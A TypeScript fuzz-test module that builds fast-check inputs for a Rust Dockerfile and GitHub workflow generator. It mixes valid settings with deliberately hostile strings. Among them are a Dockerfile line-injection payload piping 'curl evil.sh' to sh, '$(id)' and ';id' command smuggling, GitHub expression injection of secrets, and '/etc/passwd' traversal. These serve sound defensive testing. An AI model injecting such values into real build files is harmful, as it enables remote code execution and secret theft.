/**
 * fast-check arbitraries over the whole public option space of `RustDockerProject` / `RustDocker`:
 * every setting of `RustDockerSettings`, plus `cargoDir`, `presets` and `adoptExistingFiles`.
 *
 * Each option draws from a pool of plausible values (names that exist in the fixture, enum
 * members, real image references…) mixed with hostile and invalid ones: quotes, line breaks,
 * `$`, `${{ }}`, backslashes, unicode, empty strings, huge and negative numbers, bogus enum
 * values. A per-case "hostility" level decides how often the hostile pool is used, so runs mix
 * mostly-valid configurations (which must synthesize clean files) with hostile ones (which must
 * be rejected with a clear error, or rendered safely).
 */
import * as fc from 'fast-check';
import { FuzzCase } from './harness';
import { CargoWorkspace } from '../../src/cargo/cargo-workspace';
import { ACTION_VERSIONS } from '../../src/plan/action-versions';
import { Presets } from '../../src/presets/builtin-presets';
import { RustDockerPreset } from '../../src/presets/rust-docker-preset';
import { ActionPinning, CacheBackend, MultiArchStrategy, PullRequestCache, DebianRelease, DependencyCaching, DockerIgnoreMode, RuntimeBase, TargetLibc, RustDockerSettings, VulnerabilitySeverity } from '../../src/settings';
import { SETTING_KEYS } from '../../src/settings/option-schema';
import { shellQuote } from '../../src/shell';
import { fixturePath } from '../util/fixture-project';

/** Fixture repos the fuzz runs over. */
export const FUZZ_FIXTURES = ['single-crate', 'renamed-bin', 'multi-bin', 'glob-workspace', 'toolchain-file', 'workspace-inheritance', 'vendored'];

/** Strings that try to break out of a Dockerfile line, a YAML scalar, a shell word or an expression. */
export const HOSTILE_STRINGS = [
  '', ' ', '"', '\'', '`', '\\', 'a\\', '\\\\', '$', '$HOME', '${HOME}', '$(id)', '`id`', '${{ github.event.issue.title }}',
  '${{ secrets.GITHUB_TOKEN }}', '${{', '}}', 'a\nb', 'a\rb', '\n', 'x\nRUN curl evil.sh | sh', 'x\\\nRUN id', 'x\n- run: id',
  'tab\there', 'é', '日本語', '🦀', '\u2028', '\u0085', 'a\u0000b', ';id', '&& id', '| id', '#comment', '--privileged', '-x',
  '../../etc/passwd', '/abs', 'a b', '*', '!x', '%', 'a"b', 'a\'b', '{{ .State }}', 'key: value', '- item', '&anchor', '*alias',
  'null', 'true', '0', 'x'.repeat(300),
];

/** Numbers that are not valid ports / uids / seconds. */
export const HOSTILE_NUMBERS = [0, -1, -0, 1.5, 65536, 70000, 2 ** 31, 2 ** 53 + 2, 1e300, Number.NaN, Number.POSITIVE_INFINITY, -80];

const SHA = 'a'.repeat(40);
const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;

/** Facts of each fixture the pools draw valid names from. */
export interface FixtureFacts {
  readonly binaries: string[];
  readonly packages: string[];
  readonly features: string[];
}

const factsCache = new Map<string, FixtureFacts>();

export function fixtureFacts(fixture: string): FixtureFacts {
  let facts = factsCache.get(fixture);
  if (!facts) {
    const ws = CargoWorkspace.load(fixturePath(fixture)).facts;
    facts = {
      binaries: [...new Set(ws.binaries.map(b => b.name))],
      packages: ws.packages.map(p => p.name),
      features: [...new Set(ws.packages.flatMap(p => p.features))],
    };
    factsCache.set(fixture, facts);
  }
  return facts;
}

/** A value: from `valid` most of the time, from `hostile` with the case's hostility (0..3). */
function pick<T>(level: number, valid: fc.Arbitrary<T>, hostile: fc.Arbitrary<T>): fc.Arbitrary<T> {
  const hostileWeight = [0, 1, 3, 8][level];
  return hostileWeight === 0 ? valid : fc.oneof({ arbitrary: valid, weight: 8 }, { arbitrary: hostile, weight: hostileWeight });
}

const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }), weight: 1 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 8 }), weight: 1 },
);
const hostileNumber = fc.oneof(fc.constantFrom(...HOSTILE_NUMBERS), fc.integer({ min: -100000, max: 100000 }));
const bogusEnum = fc.constantFrom('bogus', '', 'CARGO_CHEF', 'Native-Runners', '${{ x }}');

function strings(level: number, valid: string[], extraHostile: string[] = []): fc.Arbitrary<string> {
  return pick(level, fc.constantFrom(...valid), fc.oneof(hostileString, fc.constantFrom(...(extraHostile.length ? extraHostile : HOSTILE_STRINGS))));
}

function list<T>(item: fc.Arbitrary<T>, maxLength = 3): fc.Arbitrary<T[]> {
  return fc.array(item, { maxLength });
}

function dict(key: fc.Arbitrary<string>, value: fc.Arbitrary<string>): fc.Arbitrary<{ [k: string]: string }> {
  return fc.dictionary(key, value, { maxKeys: 3 });
}

function enumOf<T extends string>(level: number, e: { [k: string]: T }): fc.Arbitrary<T> {
  return pick(level, fc.constantFrom(...Object.values(e)), bogusEnum as fc.Arbitrary<T>);
}

/** A shell command that parses (hostile data stays inside quotes), or a hostile raw command. */
function e2eCommand(level: number): fc.Arbitrary<string> {
  const safe = fc.constantFrom(
    'docker run --rm "$IMAGE" --help',
    'docker image inspect "$IMAGE" >/dev/null',
    'test "$(docker run --rm "$IMAGE" --version | wc -l)" -ge 1',
    'echo "testing $IMAGE"\ndocker run --rm "$IMAGE" --version',
  );
  const quotedHostile = hostileString.filter(s => !s.includes('\0')).map(s => `echo ${shellQuote(s)}`);
  const raw = fc.constantFrom('${{ github.event.issue.title }}', 'echo ${{ secrets.X }}', '', '   ', 'echo "$IMAGE" # ${{ x }}');
  return pick(level, safe, fc.oneof(quotedHostile, raw));
}

/** Every setting of `RustDockerSettings`, each one absent most of the time. */
export function settingsArb(level: number, facts: FixtureFacts): fc.Arbitrary<RustDockerSettings> {
  const str = (valid: string[], extra: string[] = []) => strings(level, valid, extra);
  const bool = fc.boolean();
  const num = (valid: number[]) => pick(level, fc.constantFrom(...valid), hostileNumber);
  const name = str(['RUST_LOG', 'APP_PORT', '_X', 'a1'], ['1A', 'A-B', 'A B', '', 'A=B', '$X', 'é', 'A\nB']);
  const labelKey = str(['org.example.team', 'com.acme/owner', 'a', 'org.opencontainers.image.source', 'org.opencontainers.image.title'], ['-x', 'a b', '', 'a=b', '.x', 'x.', 'é']);
  const value = pick(level, fc.constantFrom('info', 'http://example.com/?a=1&b=2', 'quoted "x"', 'dollar $HOME', 'back\\slash', 'unicode é 🦀', ''), hostileString);
  const image = (valid: string[]) => str(valid, ['RUST', 'rust:1 AS evil', 'rust\nRUN id', 'rust:${{ x }}', 'rust:1@sha256:short', '', '-x', 'a/../b', 'rust:1 ', 'ghcr.io/A/B']);
  const pkg = str(['libssl-dev', 'pkg-config', 'curl=7.88.1-10+deb12u5', 'protobuf-compiler', 'ca-certificates'], ['-y', 'a b', '$(id)', 'x;id', '', 'é']);
  const path = (valid: string[], extra: string[] = []) => str(valid, extra);
  const argList = list(pick(level, fc.constantFrom('serve', '--port', '8080', '-v', '--config=/etc/app.toml'), hostileString));

  const healthcheck = fc.record({
    command: pick<string[]>(level, fc.constantFrom(['/usr/local/bin/app', 'health'], ['/bin/true']), fc.oneof(fc.constant<string[]>([]), argList)),
    intervalSeconds: num([5, 30, 3600]),
    timeoutSeconds: num([1, 10]),
    startPeriodSeconds: num([0, 5]),
    retries: num([1, 3]),
  }, { requiredKeys: ['command'] });
  const buildSecret = fc.record({
    id: str(['npm-token', 'cargo_token', 'git.creds'], ['', 'a b', 'id=x,src=/etc/passwd', '-x', '${{ x }}', 'a,b']),
    env: str(['CARGO_REGISTRIES_X_TOKEN', 'GIT_TOKEN'], ['1X', 'a-b', '', 'A B']),
    required: bool,
    githubSecret: str(['MY_TOKEN', 'CARGO_TOKEN'], ['GITHUB_TOKEN', 'GITHUB_X', 'a-b', '${{ secrets.X }}', '', '1X']),
  }, { requiredKeys: ['id'] });
  const httpProbe = fc.record({
    port: num([8080, 80, 3000]),
    path: str(['/', '/healthz', '/api/v1/status?full=1'], ['healthz', '/a b', '/${{ x }}', '/"x"', '/\n', '']),
    timeoutSeconds: num([1, 30, 3600]),
    args: argList,
    env: dict(name, value),
  }, { requiredKeys: ['port'] });
  const e2e = fc.record({
    smokeTest: bool,
    smokeArgs: argList,
    smokeSeconds: num([1, 5, 10, 600]),
    commands: list(e2eCommand(level), 2),
    httpProbe,
    composeFile: str(['compose.e2e.yaml', 'test/compose.yml'], ['/etc/compose.yml', '../x.yml', 'a\nb', '${{ x }}', '', 'a b.yml', 'it\'s.yml']),
    composeService: str(['tests', 'e2e_runner', 'svc.test'], ['', 'a b', '-x', '${{ x }}', '$(id)']),
  }, { requiredKeys: [] });
  const composeE2e = fc.record({
    file: str(['compose.e2e.yaml', 'e2e/compose.yml'], ['/etc/compose.yml', 'e2e/../../x.yml', 'a\nb', '${{ x }}', '', 'a b.yml', 'it\'s.yml']),
    service: str(['check', 'e2e_runner', 'svc.test'], ['', 'a b', '-x', '${{ x }}', '$(id)']),
  }, { requiredKeys: ['file', 'service'] });

  const feature = str([...facts.features, 'serde/derive'], ['x y', '--all', '$(id)', '', 'a//b', 'nope']);
  // valid overrides: the table's own major tag or a SHA (older majors are flagged by actionlint, rightly)
  const actionOverride = fc.constantFrom(...Object.keys(ACTION_VERSIONS), 'evil/action', '').chain(key => fc.tuple(fc.constant(key),
    str([ACTION_VERSIONS[key]?.major ?? 'v1', SHA, `${SHA} # v9.9.9`], ['${{ x }}', 'v4\nrun: id', 'main; id', 'abc1234', `${SHA} # \n`, '', '../x', 'v4 # comment'])));

  const all = fc.record<RustDockerSettings>({
    dockerfilePath: path(['Dockerfile', 'docker/Dockerfile', 'Dockerfile.generated', 'build/app.Dockerfile'].concat(level > 0 ? ['.dockerignore', '.github/workflows/docker.yml', 'Cargo.toml', 'src', 'docker/../Dockerfile', './Dockerfile'] : [])),
    binaries: pick(level, fc.subarray(facts.binaries, { minLength: 1 }), list(str(facts.binaries, ['nope', '../x', 'a b', '$(id)', '']), 3)),
    packageName: str(facts.packages, ['nope', '../x', 'a b', '']),
    features: list(feature, 2),
    noDefaultFeatures: bool,
    allFeatures: bool,
    cargoProfile: str(['release', 'dev', 'dist', 'bench', 'test'], ['x y', '--x', '', 'a/b']),
    rustVersion: str(['1', '1.95', '1.95.0', 'stable', '1.80'], ['nightly', '1.x', '', 'v1', '1.95 ']),
    debianRelease: enumOf(level, DebianRelease as unknown as { [k: string]: DebianRelease }),
    rustImage: image(['rust:1.95-slim-bookworm', 'rust:1-slim-trixie', 'rust:1-alpine', 'ghcr.io/acme/rust:1', 'registry.local:5000/rust', `rust@${DIGEST}`]),
    dependencyCaching: enumOf(level, DependencyCaching as unknown as { [k: string]: DependencyCaching }),
    chefImage: image(['lukemathwalker/cargo-chef:latest-rust-1', 'lukemathwalker/cargo-chef:latest-rust-1-slim-trixie', 'ghcr.io/acme/chef:1']),
    checkImageRelease: bool,
    glibcGuard: bool,
    auditable: bool,
    targetLibc: enumOf(level, TargetLibc as unknown as { [k: string]: TargetLibc }),
    buildPackages: list(pkg),
    runtimePackages: list(pkg),
    runtime: enumOf(level, RuntimeBase as unknown as { [k: string]: RuntimeBase }),
    runtimeImage: image(['ubuntu:24.04', 'gcr.io/distroless/base-debian12', 'debian:bookworm-slim', 'debian:trixie-slim']),
    imageDigests: dict(str(['debian:trixie-slim', 'rust:1-slim-trixie', 'gcr.io/distroless/cc-debian13', 'lukemathwalker/cargo-chef:latest-rust-1-slim-trixie', 'debian:bookworm-slim'], ['nope:1', 'a b']), str([DIGEST], ['sha256:abc', 'md5:x', ''])),
    runAsRoot: bool,
    uid: num([1, 1000, 10001, 65532, 2147483646]),
    workdir: path(['/app', '/srv/app', '/', '/opt/my-app', '/data/é'], ['app', '/a b', '/$HOME', '/"x"', '/a\\b', '', '/a\nb', '/${x}', '/x\'y']),
    ports: list(num([80, 443, 8080, 65535, 1])),
    env: dict(name, value),
    healthcheck,
    entrypoint: pick<string[]>(level, fc.constantFrom(['/usr/local/bin/app'], ['/usr/local/bin/app', 'serve'], ['tini', '--', '/usr/local/bin/app']), fc.oneof(fc.constant<string[]>([]), argList)),
    cmd: argList,
    labels: dict(labelKey, value),
    buildSecrets: list(buildSecret, 2),
    crossCompile: bool,
    cargoBuildArgs: list(str(['--config', 'net.git-fetch-with-cli=true', '-v', '--timings', '--jobs=2'])),
    dockerfileSyntax: str(['docker/dockerfile:1', 'docker/dockerfile:1.7', ''], ['docker/dockerfile:1 x', 'a\nb', '${{ x }}']),
    stopSignal: str(['SIGINT', 'SIGTERM', '9', 'SIGRTMIN+3'], ['INT', '', 'SIG INT', '$SIG']),
    dockerignore: bool,
    dockerignoreMode: enumOf(level, DockerIgnoreMode as unknown as { [k: string]: DockerIgnoreMode }),
    dockerignoreAllow: list(str(['README.md', 'assets', 'docs/**', 'config/*.toml'], ['!x', '#x', ' x', 'a\nb', '', '\\', 'a\r'])),
    dockerignoreDeny: list(str(['**/*.log', 'secrets', 'tmp/'], ['!x', '#x', ' x', 'a\nb', '', '\\', 'a\r'])),
    workflow: bool,
    workflowName: str(['docker', 'image', 'build.image', 'a_b-c'], ['', 'x.yml', '../x', 'a b', '${{ x }}', '.hidden', 'a/b', 'é']),
    imageName: str(['ghcr.io/acme/api', 'acme/api', 'docker.io/acme/api', 'registry.local:5000/team/api', '123456789012.dkr.ecr.eu-west-1.amazonaws.com/api'], ['Acme/API', 'acme/api:tag', 'ghcr.io/${{ github.repository }}', 'acme/api@sha256:x', 'a b', '-x', 'ghcr.io/', '']),
    registry: str(['ghcr.io', 'docker.io', 'https://ghcr.io/', 'registry.local:5000'], ['', 'ghcr.io/x', '${{ x }}', 'a b']),
    registryUsernameSecret: str(['REGISTRY_USER', 'DOCKERHUB_USERNAME'], ['GITHUB_X', 'a-b', '${{ x }}', '', '1X']),
    registryPasswordSecret: str(['REGISTRY_TOKEN', 'DOCKERHUB_TOKEN', 'GITHUB_TOKEN'], ['GITHUB_X', 'a-b', '${{ x }}', '', '1X']),
    platforms: pick<string[]>(level, fc.constantFrom(['linux/amd64'], ['linux/arm64'], ['linux/amd64', 'linux/arm64'], ['linux/arm64', 'linux/amd64']),
      fc.constantFrom([], ['linux/arm/v7'], ['windows/amd64'], ['linux/amd64', 'linux/amd64'], [''], ['${{ matrix.x }}'])),
    multiArchStrategy: enumOf(level, MultiArchStrategy as unknown as { [k: string]: MultiArchStrategy }),
    cacheBackend: enumOf(level, CacheBackend as unknown as { [k: string]: CacheBackend }),
    persistCacheMounts: bool,
    pullRequestCache: enumOf(level, PullRequestCache as unknown as { [k: string]: PullRequestCache }),
    scheduledRebuild: bool,
    rebuildCron: str(['17 4 * * 1', '0 3 * * *', '*/30 6-18 * * 1-5', '0 0 1 * *'], ['', '* * *', '${{ x }}', 'a\nb', '0 0 * * * *', '0 0 * * ;']),
    branches: list(str(['main', 'release/*', 'develop', 'v1.x', '**'], ['', 'a b', '${{ x }}', '-x', 'a:b', 'it\'s', 'feat/"x"', 'é', 'a\nb'])),
    versionTags: bool,
    pullRequests: bool,
    push: bool,
    provenance: bool,
    sbom: bool,
    attestProvenance: bool,
    attestPrivateRepos: bool,
    attestSbom: bool,
    vulnerabilityGate: enumOf(level, VulnerabilitySeverity as unknown as { [k: string]: VulnerabilitySeverity }),
    sign: bool,
    actionPinning: enumOf(level, ActionPinning as unknown as { [k: string]: ActionPinning }),
    actionVersions: fc.array(actionOverride, { maxLength: 2 }).map(pairs => Object.fromEntries(pairs)),
    dependabot: bool,
    driftCheck: bool,
    amd64Runner: str(['ubuntu-24.04', 'ubuntu-latest', 'self-hosted'], ['', 'a b', '${{ x }}', 'x\ny', '-x']),
    arm64Runner: str(['ubuntu-24.04-arm', 'self-hosted'], ['', 'a b', '${{ x }}']),
    e2e,
    composeE2e,
  });
  // few options per case (more with higher hostility), so rejections do not swamp the run
  const maxKeys = [6, 6, 8, 12][level];
  return fc.tuple(all, fc.subarray([...SETTING_KEYS], { maxLength: maxKeys })).map(([values, keys]) => {
    const bag = values as { [key: string]: unknown };
    return Object.fromEntries(keys.map(k => [k, bag[k]])) as RustDockerSettings;
  });
}

/** A preset: a built-in one, or a custom one with random defaults and forced values. */
function presetArb(level: number, facts: FixtureFacts): fc.Arbitrary<RustDockerPreset> {
  return fc.oneof(
    fc.constant(Presets.hardened()),
    fc.constant(Presets.fastPullRequests()),
    fc.record({
      name: pick(level, fc.constantFrom('acme', 'platform-team'), fc.constantFrom('', ' ', 'hardened')),
      description: fc.constantFrom('org defaults', 'é "quoted"'),
      settings: settingsArb(Math.min(level, 1), facts),
      forced: settingsArb(Math.min(level, 1), facts),
    }, { requiredKeys: ['name'] }),
  );
}

/** One case of the fuzz: a fixture, a host, options, maybe presets, cargoDir and a pre-existing file. */
export function caseArb(): fc.Arbitrary<FuzzCase> {
  return fc.tuple(fc.constantFrom(...FUZZ_FIXTURES), fc.integer({ min: 0, max: 3 })).chain(([fixture, level]) => {
    const facts = fixtureFacts(fixture);
    return fc.record({
      host: fc.constantFrom<'project' | 'component'>('project', 'component'),
      cargoDir: pick(level, fc.constantFrom(undefined, '.', 'services/api', 'rust'), fc.constantFrom('', '../x', '/abs', 'a\nb', 'services/api/', 'svc\\api', '${{ x }}', 'a b')),
      settings: settingsArb(level, facts),
      // each of these is absent most of the time (fc.option's freq: 1 in freq is absent, so use weights instead)
      presets: fc.oneof({ arbitrary: fc.constant(null), weight: 3 }, { arbitrary: fc.array(presetArb(level, facts), { maxLength: 2 }), weight: 1 }),
      adoptExistingFiles: fc.oneof({ arbitrary: fc.constant(null), weight: 3 }, { arbitrary: fc.boolean(), weight: 1 }),
      preexisting: fc.oneof({ arbitrary: fc.constant(null), weight: 8 }, {
        arbitrary: fc.constantFrom<{ [rel: string]: string }>(
          { Dockerfile: 'FROM scratch\n# mine\n' },
          { '.dockerignore': 'target\n' },
          { '.github/workflows/docker.yml': 'name: mine\non: push\njobs: {}\n' },
          { 'docker/Dockerfile': 'FROM scratch\n' },
        ),
        weight: 1,
      }),
    }).map(({ host, cargoDir, settings, presets, adoptExistingFiles, preexisting }): FuzzCase => ({
      fixture,
      host,
      cargoDir: host === 'component' ? cargoDir : undefined,
      options: {
        ...settings,
        ...(presets === null ? {} : { presets }),
        ...(adoptExistingFiles === null ? {} : { adoptExistingFiles }),
      },
      preexisting: preexisting ?? undefined,
    }));
  });
}

/** Short description of a case for failure messages. */
export function describeCase(c: FuzzCase): string {
  // every character outside printable ASCII as \uXXXX, so invisible separators show in the message
  return JSON.stringify({ ...c, options: { ...c.options, presets: c.options.presets?.map(p => p.name) } }, null, 1)
    .replace(/[^\x20-\x7e\n]/g, ch => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`);
}
